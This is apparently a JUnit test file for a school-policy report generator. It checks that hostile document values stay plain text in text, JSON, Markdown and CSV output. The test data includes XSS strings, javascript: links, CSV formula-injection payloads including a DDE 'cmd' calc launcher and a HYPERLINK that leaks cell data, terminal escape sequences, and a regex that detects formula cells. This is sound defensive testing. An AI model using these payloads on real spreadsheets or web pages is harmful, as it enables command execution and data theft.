package org.schoolpolicyreview.report;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.DynamicTest.dynamicTest;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.ServiceLoader;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.schoolpolicyreview.report.csv.CsvReport;
import org.schoolpolicyreview.report.markdown.MarkdownReport;
import org.schoolpolicyreview.review.GapReport;

/**
 * Values of documents stay values, whatever is in them: each form that is found is read again by a reader of its own
 * kind. The report is then built as it is with harmless values, and says them word for word.
 */
class HostileValuesTest {

    private static final String ESCAPE = Character.toString(0x1B);
    private static final String HARMLESS = "Plain words";

    private static final Map<String, String> VALUES = new LinkedHashMap<>();

    static {
        VALUES.put("HTML", "<script>alert(1)</script><img src=x onerror=alert(1)> <!-- </td></table>");
        VALUES.put("entities", "&lt;b&gt; &amp; &#x41; &nbsp;");
        VALUES.put("Markdown marks", "# one **two** _three_ `four` ~~five~~ ![six](http://a.example/x.png) [^1] $x$");
        VALUES.put("a link that runs a program", "[click](javascript:alert(1)) <javascript:alert(1)> [a]: http://a.example");
        VALUES.put("bare addresses", "www.a.example https://a.example/b someone@a.example");
        VALUES.put("cells of a table", "one | two || three \\| four |");
        VALUES.put("a backslash at the end", "one \\");
        VALUES.put("a list", "- one");
        VALUES.put("a numbered list", "1. one");
        VALUES.put("a rule", "---");
        VALUES.put("a heading underlined", "===");
        VALUES.put("a quotation", "> one");
        VALUES.put("a fence", "```");
        VALUES.put("several lines", "one\n\n# two\r\n- three\n| a | b |\n| --- | --- |\n");
        VALUES.put("a formula", "=HYPERLINK(\"http://a.example?\"&A1,\"click\")");
        VALUES.put("a formula after a sign", "+1+cmd|' /C calc'!A0");
        VALUES.put("a formula after a minus", "-2+3");
        VALUES.put("an old function", "@SUM(1+1)*cmd");
        VALUES.put("a formula after white space", "\t\r =1+1");
        VALUES.put("a wide formula", "＝1+1");
        VALUES.put("cells of a row", "one\",\"two;=1+1\r\nthree");
        VALUES.put("a terminal", "red " + ESCAPE + "[31m " + ESCAPE + "]0;title\u0007 \u009B2J \u0000 \b\b one");
        VALUES.put("writing turned around", "abc \u202E fed \u2066 one \u2069 \u200F two \uFEFF");
        VALUES.put("a very long word", "x".repeat(3000));
        VALUES.put("half a character", "one " + (char) 0xD83D + " two");
    }

    /** Those that are text; the web pages and the calendar have tests of their own. */
    private static Stream<ReportForm> forms() {
        return ServiceLoader.load(ReportForm.class).stream().map(ServiceLoader.Provider::get)
                .filter(WrittenForm.class::isInstance);
    }

    @Test
    void theFormsOfThisModuleAreFound() {
        assertThat(forms().map(ReportForm::format)).contains("text", "json", "markdown", "csv");
    }

    @TestFactory
    Stream<DynamicTest> aValueStaysAValue() {
        return forms().flatMap(form -> VALUES.keySet().stream()
                .map(name -> dynamicTest(form.format() + ": " + name, () -> holds(form, VALUES.get(name)))));
    }

    private static void holds(ReportForm form, String value) throws IOException {
        String written = written(form, report(value));
        Parsed parsed = Parsed.of(written, form.fileEnding());
        Parsed harmless = Parsed.of(written(form, report(HARMLESS)), form.fileEnding());

        assertThat(written.codePoints().filter(HostileValuesTest::endangersATerminal)
                .mapToObj(Integer::toHexString)).isEmpty();
        assertThat(parsed.build().lines().toList()).isEqualTo(harmless.build().lines().toList());
        assertThat(parsed.texts().stream().filter(text -> says(text, value)).count())
                .isEqualTo(harmless.texts().stream().filter(text -> says(text, HARMLESS)).count()).isPositive();
    }

    @TestFactory
    Stream<DynamicTest> noCellOfATableIsAFormula() {
        return VALUES.entrySet().stream().map(value -> dynamicTest(value.getKey(), () ->
                assertThat(Parsed.of(written(new CsvReport(), report(value.getValue())), ".csv").texts())
                        .noneMatch(cell -> cell.matches("(?s)\\s*[=+@＝＋－＠-].*"))));
    }

    @Test
    void aPolicyFileCanDoNoMoreThanThat() throws IOException {
        String yaml = """
                school:
                  name: "=1+1 <b>one</b> | **two**"
                  phase: "| Primary"
                documents:
                  - title: "# Title [a](javascript:b)"
                    kinds: [racist-incident policy]
                    approved-by: "<i>governing board</i>"
                    text:
                      - page: "3 | 4"
                      - heading: "</h2>"
                      - "- `Staff` must write the record | within one week."
                """;
        String markdown = written(new MarkdownReport(), SomeReports.ofText(yaml));
        assertThat(Parsed.of(markdown, ".md").build()).doesNotContain("Html", "javascript", "Image", "Code");
        assertThat(Parsed.of(markdown, ".md").texts())
                .contains("What the policies of =1+1 <b>one</b> | **two** say")
                .anyMatch(text -> text.contains("- `Staff` must write the record | within one week."));
    }

    private static GapReport report(String value) {
        return MadeUp.reportOf(9, value, value, value);
    }

    private static String written(ReportForm form, GapReport report) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        form.write(report, out);
        return out.toString(StandardCharsets.UTF_8);
    }

    private static boolean says(String text, String value) {
        return text.replaceAll("\\s", "").contains(PlainText.line(value).replaceAll("\\s", ""));
    }

    /** Control characters but line ends, and marks of writing direction. */
    private static boolean endangersATerminal(int point) {
        return Character.getType(point) == Character.CONTROL && point != '\n' && point != '\r'
                || Character.getType(point) == Character.FORMAT;
    }
}
